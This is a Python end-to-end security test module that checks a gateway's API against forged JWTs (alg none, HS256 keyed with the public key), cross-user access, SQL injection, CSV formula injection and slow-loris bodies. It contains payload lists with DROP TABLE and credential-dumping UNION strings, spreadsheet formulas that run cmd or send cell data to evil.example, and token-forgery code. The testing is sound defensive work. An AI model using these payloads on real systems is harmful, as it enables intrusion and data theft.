"""Bad input and attacks, through `xuc up` over real sockets, each answered as documented.

Tokens: expired, not yet valid, of another issuer (all signed with the deployment's own key), and
forgeries (conftest.forge's: `alg: none`, HS256 keyed with the public key or a secret, another
deployment's key, tampered claims, an unknown or no `kid`, a truncated signature) on every
authenticated operation (every one with `security` in gateway/openapi.yaml, `/auth/check` included,
path parameters filled with the victim's real contact id and the provisioned queue), in either
header: the documented 401 `InvalidToken`, changing nothing. Another user's contact ids, in the
path or in the body. SQL injection strings in every contact field and in `?search=`. CSV injection
(spreadsheet formulas) through import and export.
A 10 MB body, JSON nested 100,000 deep, lone surrogates. Slow-loris bodies (408, connection closed).
A CSV line above the record limit. The 1.0 API from an address that is not allowed.

One stack for the module: the default 1 MiB body limit, a 1 s body timeout, the 1.0 API allowed to
127.0.0.1 only, and a signing key file the tests hold (to sign tokens as the deployment would).
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import quote

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from gateway.app import load_openapi
from tests.e2e.conftest import BASE, Stack, assert_error, b64url, forge, jwt_parts
from tests.support.raw_http import slow_request

BODY_LIMIT = 1024 * 1024  # the default
BODY_TIMEOUT_SECONDS = 1
V1 = "/xuc/api/1.0"
LOGIN = f"{BASE}/auth/login"
CHECK = f"{BASE}/auth/check"
PERSONAL = f"{BASE}/contact/personal"
EXPORT = f"{BASE}/contact/export/personal"
IMPORT = f"{BASE}/contact/import/personal"
ANSWER = f"{BASE}/call_qualification"
PUSH = f"{BASE}/config/mobile/push/register/android"
CSV_HEADER = "company,email,fax,firstname,lastname,mobile,number"
# login -> (password, line)
USERS = {"victim": ("victim-secret", "1201"), "mallory": ("mallory-secret", "1202")}
QUEUE_ID = 9


@dataclass
class AttackStack(Stack):
    """A Stack with the default body limit (the shared one is 64 KiB: too small for these bodies)."""

    @property
    def env(self) -> dict[str, str]:
        return {**super().env, "XUC_MAX_BODY_BYTES": str(BODY_LIMIT)}


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AttackStack]:
    root = tmp_path_factory.mktemp("attacks")
    key_file = root / "signing-key.pem"
    key_file.write_bytes(ec.generate_private_key(ec.SECP256R1()).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    key_file.chmod(0o600)
    stack = AttackStack(root, extra_env={
        "XUC_SIGNING_KEY_FILE": str(key_file),
        "XUC_BODY_TIMEOUT_SECONDS": str(BODY_TIMEOUT_SECONDS),
        "DEPRECATED_API_HOST": "127.0.0.1",
    }).start()
    try:
        path = stack.write_file("attack-users.yaml", {
            "users": [{"login": login, "password": password, "line": line}
                      for login, (password, line) in USERS.items()],
            # The victim's agent 1: the planted answer below names it, so it would be recorded were
            # the forged token taken.
            "agents": [{"number": "1", "user": "victim"}],
            "queues": [{"id": QUEUE_ID, "name": "attacked", "number": "3900", "agents": ["1"]}],
            "qualifications": [{"name": "Attack", "queues": [QUEUE_ID], "subQualifications": [{"name": "One"}]}],
        })
        stack.xuc("provision", str(path))
        yield stack
    except BaseException:
        stack.kill()
        raise
    stack.stop()


def signing_key(stack: Stack) -> ec.EllipticCurvePrivateKey:
    key = serialization.load_pem_private_key(Path(stack.extra_env["XUC_SIGNING_KEY_FILE"]).read_bytes(), None)
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    return key


def token_of(stack: Stack, login: str) -> str:
    response = httpx.post(f"{stack.url}{LOGIN}", json={"login": login, "password": USERS[login][0]})
    assert response.status_code == 200, response.text
    token: str = response.json()["token"]
    return token


@pytest.fixture
def victim(target: AttackStack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=target.url, headers={"X-Auth-Token": token_of(target, "victim")},
                      timeout=30.0) as client:
        assert client.delete(PERSONAL).status_code == 204
        yield client


@pytest.fixture
def mallory(target: AttackStack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=target.url, headers={"X-Auth-Token": token_of(target, "mallory")},
                      timeout=30.0) as client:
        assert client.delete(PERSONAL).status_code == 204
        yield client


@pytest.fixture
def anonymous(target: AttackStack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=target.url, timeout=30.0) as client:
        yield client


def contacts_of(client: httpx.Client, **params: str) -> list[dict[str, Any]]:
    response = client.get(PERSONAL, params=params)
    assert response.status_code == 200, response.text
    entries: list[dict[str, Any]] = response.json()["entries"]
    return entries


def export_rows(client: httpx.Client) -> list[list[str]]:
    response = client.get(EXPORT)
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


# --- tokens ---------------------------------------------------------------------------------------
def resigned(stack: Stack, token: str, key: ec.EllipticCurvePrivateKey | None = None,
             header: dict[str, Any] | None = None, **claims: Any) -> str:
    """The token's claims, changed as given, signed ES256 with the deployment's key (or `key`)."""
    real_header, payload, _ = jwt_parts(token)
    return jwt.encode({**payload, **claims}, key or signing_key(stack), algorithm="ES256",
                      headers={"kid": real_header["kid"], **(header or {})})


def _segment(value: dict[str, Any]) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode())


def forged(stack: Stack, token: str, kind: str) -> str:
    """conftest.forge's forgeries, and two it cannot make on this stack: its signing key lives in a
    file (not in auth.db, where conftest.forge reads the public key), and an unknown `kid` is signed
    here with the deployment's own key (only the `kid` is wrong)."""
    if kind == "hs256-keyed-with-the-public-key":
        kid = jwt_parts(token)[0]["kid"]
        public = signing_key(stack).public_key().public_bytes(serialization.Encoding.PEM,
                                                              serialization.PublicFormat.SubjectPublicKeyInfo)
        signing_input = f"{_segment({'alg': 'HS256', 'typ': 'JWT', 'kid': kid})}.{token.split('.')[1]}"
        return f"{signing_input}.{b64url(hmac.new(public, signing_input.encode(), hashlib.sha256).digest())}"
    if kind == "unknown-kid-signed-with-our-key":
        return resigned(stack, token, header={"kid": "not-a-key-of-ours"})
    return forge(kind, token, stack)


# Every forgery of conftest.forge (test_check.FORGERIES) but "hs256-with-the-public-key", which reads
# the key from auth.db, replaced by the same forgery keyed with this stack's key file.
FORGERIES = ["alg-none", "alg-none-with-signature", "hs256-keyed-with-the-public-key", "hs256-with-a-secret",
             "es256-with-another-key", "es256-with-another-key-and-a-longer-life", "tampered-login",
             "tampered-expiry", "unknown-kid", "unknown-kid-signed-with-our-key", "no-kid", "truncated-signature"]
OPENAPI = load_openapi()


@dataclass(frozen=True)
class Operation:
    method: str
    template: str  # the OpenAPI path
    path: str  # with its parameters filled
    body: Any  # JSON, or a str sent as text/csv


def authenticated_operations(contact_id: str, sub_qualification_id: int) -> list[Operation]:
    """Every operation of gateway/openapi.yaml with `security`, as a real client would send it: path
    parameters filled with the victim's real contact id and the provisioned queue, a valid body (so
    that, were the token accepted, each would change something)."""
    parameters = {"contactId": contact_id, "queueId": str(QUEUE_ID), "from": "2000-01-01", "to": "2100-01-01"}
    bodies: dict[tuple[str, str], Any] = {
        ("POST", f"{BASE}/contact/personal"): {"lastname": "Planted", "number": "0600000001"},
        ("PUT", f"{BASE}/contact/personal/{{contactId}}"): {"lastname": "Overwritten"},
        ("POST", f"{BASE}/contact/import/personal"): f"{CSV_HEADER}\n,,,,Planted,,\n",
        ("POST", f"{BASE}/call_qualification"): {
            "sub_qualification_id": sub_qualification_id, "time": "2024-01-01 12:00:00", "callid": "planted",
            "agent": 1, "queue": QUEUE_ID, "first_name": "Planted", "last_name": "Answer", "comment": "planted",
            "custom_data": "planted"},
        ("POST", PUSH): {"token": "planted-push-token"},
        ("POST", f"{BASE}/config/mobile/push/register/ios"): {"token": "planted-push-token"},
        ("POST", f"{BASE}/mobile/push/register"): {"token": "planted-push-token", "platform": "android"},
    }
    operations = []
    for template, item in OPENAPI["paths"].items():
        for method, operation in item.items():
            if not isinstance(operation, dict) or not operation.get("security"):
                continue
            key = (method.upper(), template)
            assert ("requestBody" in operation) == (key in bodies), f"{key}: a body to send, or none"
            path = re.sub(r"\{(\w+)\}", lambda match: quote(parameters[match.group(1)], safe=""), template)
            operations.append(Operation(method.upper(), template, path, bodies.get(key)))
    assert len({(operation.method, operation.template) for operation in operations} & set(bodies)) == len(bodies)
    return operations


def _documented_401_codes(operation: Operation) -> str:
    """The 401 answer's description in the OpenAPI document (the codes it lists, in backquotes)."""
    answer = OPENAPI["paths"][operation.template][operation.method.lower()]["responses"]["401"]
    if "$ref" in answer:
        answer = OPENAPI["components"]["responses"][answer["$ref"].rpartition("/")[2]]
    description: str = answer["description"]
    return description


def _call(client: httpx.Client, operation: Operation, headers: dict[str, str]) -> httpx.Response:
    if isinstance(operation.body, str):
        return client.request(operation.method, operation.path, content=operation.body.encode(),
                              headers={**headers, "Content-Type": "text/csv"})
    if operation.body is None:
        return client.request(operation.method, operation.path, headers=headers)
    return client.request(operation.method, operation.path, json=operation.body, headers=headers)


def _state_of(victim: httpx.Client, contact_id: str) -> dict[str, Any]:
    """What a forged request could change, as the victim reads it."""
    contact = victim.get(f"{PERSONAL}/{contact_id}")
    assert contact.status_code == 200, contact.text
    answers = victim.get(f"{BASE}/call_qualification/csv/{QUEUE_ID}/2000-01-01/2100-01-01")
    assert answers.status_code == 200, answers.text
    return {"contacts": contacts_of(victim), "contact": contact.json(), "export": export_rows(victim),
            "answers": answers.text}


def _sub_qualification_id(victim: httpx.Client) -> int:
    response = victim.get(f"{BASE}/call_qualification/queue/{QUEUE_ID}")
    assert response.status_code == 200, response.text
    (qualification,) = response.json()
    identifier: int = qualification["subQualifications"][0]["id"]
    return identifier


@pytest.mark.parametrize("kind", FORGERIES)
def test_a_forged_token_is_refused_on_every_authenticated_route_and_changes_nothing(
        target: AttackStack, victim: httpx.Client, anonymous: httpx.Client, kind: str) -> None:
    kept = victim.post(PERSONAL, json={"lastname": "Kept"}).json()
    real = victim.headers["X-Auth-Token"]
    token = forged(target, real, kind)
    assert token != real
    operations = authenticated_operations(kept["id"], _sub_qualification_id(victim))
    assert len(operations) == sum(1 for item in OPENAPI["paths"].values() for operation in item.values()
                                  if isinstance(operation, dict) and operation.get("security"))
    before = _state_of(victim, kept["id"])

    for operation in operations:
        assert "`InvalidToken`" in _documented_401_codes(operation), operation
        for headers in ({"X-Auth-Token": token}, {"Authorization": f"Bearer {token}"}):
            response = _call(anonymous, operation, headers)
            assert_error(response, 401, "InvalidToken")

    assert [entry["id"] for entry in contacts_of(victim)] == [kept["id"]]
    assert _state_of(victim, kept["id"]) == before


# --- another user's contacts ----------------------------------------------------------------------
def test_another_users_contact_ids_are_not_found_and_nothing_changes(victim: httpx.Client,
                                                                      mallory: httpx.Client) -> None:
    theirs = victim.post(PERSONAL, json={"lastname": "Secret", "number": "0600000000"}).json()
    own = mallory.post(PERSONAL, json={"lastname": "Mine"}).json()
    before = export_rows(victim)

    # in the path: answered exactly as an id that does not exist
    assert_error(mallory.get(f"{PERSONAL}/{theirs['id']}"), 404, "ContactNotFound")
    assert_error(mallory.put(f"{PERSONAL}/{theirs['id']}", json={"lastname": "Stolen"}), 404, "ContactNotFound")
    assert_error(mallory.delete(f"{PERSONAL}/{theirs['id']}"), 404, "ContactNotFound")
    # in the body: an "id" key is ignored, the path (or a new id) decides
    updated = mallory.put(f"{PERSONAL}/{own['id']}", json={"id": theirs["id"], "lastname": "Overwritten"})
    assert updated.status_code == 200, updated.text
    assert updated.json()["id"] == own["id"]
    created = mallory.post(PERSONAL, json={"id": theirs["id"], "lastname": "Planted"})
    assert created.status_code == 201, created.text
    assert created.json()["id"] != theirs["id"]

    assert victim.get(f"{PERSONAL}/{theirs['id']}").json() == theirs
    assert export_rows(victim) == before
    assert sorted(entry["entry"][1] for entry in contacts_of(mallory)) == ["Overwritten", "Planted"]


# --- SQL injection --------------------------------------------------------------------------------
SQL_INJECTIONS = [
    "'; DROP TABLE contacts_contacts; --",
    "' OR '1'='1",
    "\" OR 1=1 --",
    "1; DELETE FROM auth_users",
    "' UNION SELECT login, password_hash FROM auth_users --",
    "%' OR 1=1 --",
    "Robert'); DROP TABLE Students;--",
]


def test_sql_injection_strings_are_stored_and_returned_verbatim(victim: httpx.Client,
                                                                mallory: httpx.Client) -> None:
    theirs = mallory.post(PERSONAL, json={"lastname": "Other user"}).json()
    created = []
    for number, payload in enumerate(SQL_INJECTIONS):
        fields = {"firstname": payload, "lastname": f"{payload} {number}", "company": payload,
                  "email": payload[:254], "number": payload[:40], "mobile": payload[:40], "fax": payload[:40]}
        response = victim.post(PERSONAL, json=fields)
        assert response.status_code == 201, (payload, response.text)
        assert {name: response.json()[name] for name in fields} == fields
        created.append(response.json())

    for contact in created:
        assert victim.get(f"{PERSONAL}/{contact['id']}").json() == contact
    for number, payload in enumerate(SQL_INJECTIONS):
        found = contacts_of(victim, search=f"{payload} {number}")
        assert [entry["id"] for entry in found] == [created[number]["id"]], payload
    assert contacts_of(victim, search="%") == contacts_of(victim, search="%' OR 1=1 --")  # no wildcard
    assert contacts_of(victim, search="' OR 1=1 --zzz") == []
    assert len(contacts_of(victim)) == len(SQL_INJECTIONS)  # nothing dropped, nothing leaked in
    assert mallory.get(f"{PERSONAL}/{theirs['id']}").json() == theirs
    assert_error(victim.post(LOGIN, json={"login": "victim' --", "password": "x"}), 401, "InvalidCredentials")
    assert_error(victim.post(LOGIN, json={"login": "' OR '1'='1", "password": "' OR '1'='1"}), 401,
                 "InvalidCredentials")


# --- CSV injection --------------------------------------------------------------------------------
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+41+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_csv_injection_is_neutralised_on_export_and_read_back_on_import(victim: httpx.Client) -> None:
    lines = [CSV_HEADER] + [
        ",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in ["", "", "", formula, f"Row {number}",
                                                                        "", ""])
        for number, formula in enumerate(FORMULAS)]
    imported = victim.post(IMPORT, content="\n".join(lines).encode(), headers={"Content-Type": "text/csv"})
    assert imported.status_code == 201, imported.text
    assert imported.json()["failed"] == []
    stored = sorted(entry["entry"][0] for entry in contacts_of(victim))
    assert stored == sorted(FORMULAS)  # read as written

    exported = victim.get(EXPORT).content
    for row in export_rows(victim)[1:]:
        assert row[3].startswith("'"), row  # no cell a spreadsheet would run

    assert victim.delete(PERSONAL).status_code == 204
    again = victim.post(IMPORT, content=exported, headers={"Content-Type": "text/csv"})
    assert again.status_code == 201, again.text
    assert sorted(entry["entry"][0] for entry in contacts_of(victim)) == sorted(FORMULAS)
    assert victim.get(EXPORT).content == exported


def test_a_csv_line_above_the_record_limit_is_reported_and_nothing_else_is_lost(victim: httpx.Client) -> None:
    huge = "x" * (200 * 1024)
    content = f"{CSV_HEADER}\n,,,,Before,,\n,,,,{huge},,\n,,,,After,,\n\"{huge}\n{huge}\",,,,Quoted,,\n,,,,Last,,\n"

    response = victim.post(IMPORT, content=content.encode(), headers={"Content-Type": "text/csv"})

    assert response.status_code == 201, response.text[:500]
    report = response.json()
    assert [failed["line"] for failed in report["failed"]] == [3, 5]
    assert all(any("record too long" in error for error in failed["errors"]) for failed in report["failed"])
    assert sorted(created["lastname"] for created in report["created"]) == ["After", "Before", "Last"]
    assert sorted(entry["entry"][1] for entry in contacts_of(victim)) == ["After", "Before", "Last"]


# --- big, deep and broken bodies ------------------------------------------------------------------
JSON_ROUTES = [
    (LOGIN, "InvalidJson"),
    (PERSONAL, "JsonParsingError"),
    (ANSWER, "JsonErrorDecoding"),
    (PUSH, "JsonErrorDecoding"),
    (f"{BASE}/mobile/push/register", "JsonErrorDecoding"),
    (f"{V1}/dial/avencall.com/victim/", "JsonErrorDecoding"),
    (f"{V1}/connect/avencall.com/victim/", "JsonErrorDecoding"),
]
# A body that is not JSON is a 400 but on personal contacts, whose page documents a 500 JsonParsingError.
DOCUMENTED_STATUS = {"JsonParsingError": 500}


@pytest.mark.parametrize(("path", "code"), JSON_ROUTES)
def test_a_10_mb_body_is_payload_too_large_declared_or_streamed(victim: httpx.Client, path: str, code: str) -> None:
    body = b'{"a": "' + b"x" * 10_000_000 + b'"}'

    def chunks() -> Iterator[bytes]:
        for start in range(0, len(body), 65536):
            yield body[start:start + 65536]

    headers = {"Content-Type": "application/json"}
    assert_error(victim.post(path, content=body, headers=headers), 413, "PayloadTooLarge")
    assert_error(victim.post(path, content=chunks(), headers=headers), 413, "PayloadTooLarge")


@pytest.mark.parametrize(("path", "code"), JSON_ROUTES)
@pytest.mark.parametrize("body", [
    pytest.param(b"[" * 100_000, id="100000-brackets"),
    pytest.param(b'{"a":' * 100_000, id="100000-objects"),
    pytest.param(b"[" * 50_000 + b"]" * 50_000, id="valid-but-50000-deep"),
])
def test_deeply_nested_json_is_a_clear_documented_error(target: AttackStack, victim: httpx.Client, path: str,
                                                        code: str, body: bytes) -> None:
    mark = len(target.log())

    assert_error(victim.post(path, content=body, headers={"Content-Type": "application/json"}),
                 DOCUMENTED_STATUS.get(code, 400), code)
    assert "RecursionError" not in target.log()[mark:]


@pytest.mark.parametrize(("path", "body", "code"), [
    (LOGIN, b'{"login": "\\ud800", "password": "x"}', "InvalidJson"),
    (LOGIN, b'{"login": "victim", "password": "\\udfff"}', "InvalidJson"),
    (PERSONAL, b'{"lastname": "\\ud800"}', "InvalidContact"),
    (ANSWER, b'{"sub_qualification_id": 1, "time": "2024-01-01 00:00:00", "queue": 9, "comment": "\\ud800"}',
     "JsonErrorDecoding"),
    (PUSH, b'{"token": "\\ud800"}', "JsonErrorDecoding"),
])
def test_a_lone_surrogate_is_a_400_not_a_500(victim: httpx.Client, path: str, body: bytes, code: str) -> None:
    # JSON may escape a lone surrogate, which no UTF-8 (so no protobuf string) can hold: a 500 once.
    assert_error(victim.post(path, content=body, headers={"Content-Type": "application/json"}), 400, code)


def test_a_lone_surrogate_in_a_contact_update_is_a_400(victim: httpx.Client) -> None:
    contact = victim.post(PERSONAL, json={"lastname": "Kept"}).json()
    response = victim.put(f"{PERSONAL}/{contact['id']}", content=b'{"lastname": "\\ud800"}',
                          headers={"Content-Type": "application/json"})

    assert_error(response, 400, "InvalidContact")
    assert victim.get(f"{PERSONAL}/{contact['id']}").json() == contact


# --- slow-loris bodies ----------------------------------------------------------------------------
def _head(stack: Stack, path: str, token: str, *headers: str) -> str:
    return "\r\n".join([f"POST {path} HTTP/1.1", f"Host: 127.0.0.1:{stack.port}", f"X-Auth-Token: {token}",
                        *headers])


def _assert_cut_off(answer: Any) -> None:
    """Answered 408 (not served after the whole trickle), and not before the body timeout."""
    assert answer.status == 408, (answer.status, answer.body)
    body = answer.json()
    assert set(body) == {"error", "message"}, body
    assert body["error"] == "RequestTimeout"
    assert body["message"]
    assert answer.headers["content-type"] == "application/json"
    assert answer.closed, "the connection should be closed"
    assert answer.elapsed >= BODY_TIMEOUT_SECONDS * 0.9, answer.elapsed


def test_headers_and_then_no_body_are_cut_off(target: AttackStack) -> None:
    head = _head(target, LOGIN, "", "Content-Type: application/json", "Content-Length: 100")

    _assert_cut_off(slow_request("127.0.0.1", target.port, head, [], interval=0))


def test_a_trickled_body_is_cut_off_while_other_clients_are_served(target: AttackStack,
                                                                    victim: httpx.Client) -> None:
    body = json.dumps({"login": "victim", "password": USERS["victim"][0]}).encode().ljust(100)
    head = _head(target, LOGIN, "", "Content-Type: application/json", f"Content-Length: {len(body)}")
    results: list[Any] = []

    thread = Thread(target=lambda: results.append(
        slow_request("127.0.0.1", target.port, head, [bytes([byte]) for byte in body], interval=0.2)))
    thread.start()
    try:
        assert victim.get(PERSONAL).status_code == 200  # the gateway serves others meanwhile
    finally:
        thread.join(30)
    _assert_cut_off(results[0])


def test_a_trickled_chunked_body_is_cut_off(target: AttackStack) -> None:
    head = _head(target, LOGIN, "", "Content-Type: application/json", "Transfer-Encoding: chunked")
    chunks = [b"1\r\n" + bytes([byte]) + b"\r\n" for byte in b'{"login": "victim", "password": "x"}']

    _assert_cut_off(slow_request("127.0.0.1", target.port, head, chunks, interval=0.2))


def test_a_trickled_import_is_cut_off_and_imports_nothing(target: AttackStack, victim: httpx.Client) -> None:
    content = (CSV_HEADER + "\n" + "".join(f",,,,Slow {number},,\n" for number in range(20))).encode()
    head = _head(target, IMPORT, victim.headers["X-Auth-Token"], "Content-Type: text/csv",
                 f"Content-Length: {len(content) + 1000}")
    parts = [content[start:start + 40] for start in range(0, len(content), 40)]

    _assert_cut_off(slow_request("127.0.0.1", target.port, head, parts, interval=0.3))
    # An import of the same user afterwards, waited for: the cut one, had it gone on, would be in too.
    marker = victim.post(IMPORT, content=f"{CSV_HEADER}\n,,,,Marker,,\n".encode(), headers={"Content-Type": "text/csv"})
    assert marker.status_code == 201, marker.text
    assert [entry["entry"][1] for entry in contacts_of(victim)] == ["Marker"]


def test_a_body_that_arrives_in_time_in_pieces_is_read(target: AttackStack) -> None:
    body = json.dumps({"login": "victim", "password": USERS["victim"][0]}).encode()
    head = _head(target, LOGIN, "", "Content-Type: application/json", f"Content-Length: {len(body)}")
    parts = [body[start:start + 10] for start in range(0, len(body), 10)]

    answer = slow_request("127.0.0.1", target.port, head, parts, interval=BODY_TIMEOUT_SECONDS / (2 * len(parts)))

    assert answer.status == 200, answer.body
    assert answer.json()["login"] == "victim"


# --- the 1.0 API from elsewhere -------------------------------------------------------------------
V1_CALLS = [
    ("POST", "connect/avencall.com/victim/", {"password": USERS["victim"][0]}),
    ("POST", "dnd/avencall.com/victim/", {"state": True}),
    ("POST", "dial/avencall.com/victim/", {"number": "1202"}),
    ("POST", "dialByUsername/avencall.com/victim/", {"username": "mallory"}),
    ("POST", "dialFromQueue/avencall.com/victim/", {"destination": "1202", "queueId": QUEUE_ID}),
    ("POST", "uncForward/avencall.com/victim/", {"state": True, "destination": "0600000000"}),
    ("POST", "naForward/avencall.com/victim/", {"state": True, "destination": "0600000000"}),
    ("POST", "busyForward/avencall.com/victim/", {"state": True, "destination": "0600000000"}),
    ("POST", "handshake/avencall.com/", None),
    ("POST", "agentLogin/", {"agentphonenumber": "1201", "agentnumber": "2001"}),
    ("POST", "agentLogout/", {"phoneNumber": "1201"}),
    ("POST", "togglePause/", {"phoneNumber": "1201"}),
    ("GET", "historyByUsername/avencall.com/victim/?size=10", None),
]


@pytest.fixture(scope="module")
def elsewhere(target: AttackStack) -> Iterator[httpx.Client]:
    """A client on another host (source address 127.0.0.2), not in DEPRECATED_API_HOST."""
    with httpx.Client(base_url=target.url, timeout=15.0,
                      transport=httpx.HTTPTransport(local_address="127.0.0.2")) as client:
        yield client


@pytest.mark.parametrize(("method", "path", "body"), V1_CALLS, ids=[call[1].split("/")[0] for call in V1_CALLS])
@pytest.mark.parametrize("spoof", [{}, {"X-Forwarded-For": "127.0.0.1"}, {"X-Real-IP": "127.0.0.1"}],
                         ids=["plain", "x-forwarded-for", "x-real-ip"])
def test_every_1_0_route_refuses_a_client_that_is_not_allowed(target: AttackStack, elsewhere: httpx.Client,
                                                              method: str, path: str, body: Any,
                                                              spoof: dict[str, str]) -> None:
    response = elsewhere.request(method, f"{V1}/{path}", json=body, headers=spoof)

    assert "127.0.0.2" in assert_error(response, 403, "Forbidden")["message"]


def test_refused_1_0_calls_place_no_call(target: AttackStack, elsewhere: httpx.Client) -> None:
    for _ in range(3):
        assert_error(elsewhere.post(f"{V1}/dial/avencall.com/victim/", json={"number": "1202"}), 403, "Forbidden")

    assert "->" not in target.xuc("pbx", "calls").stdout

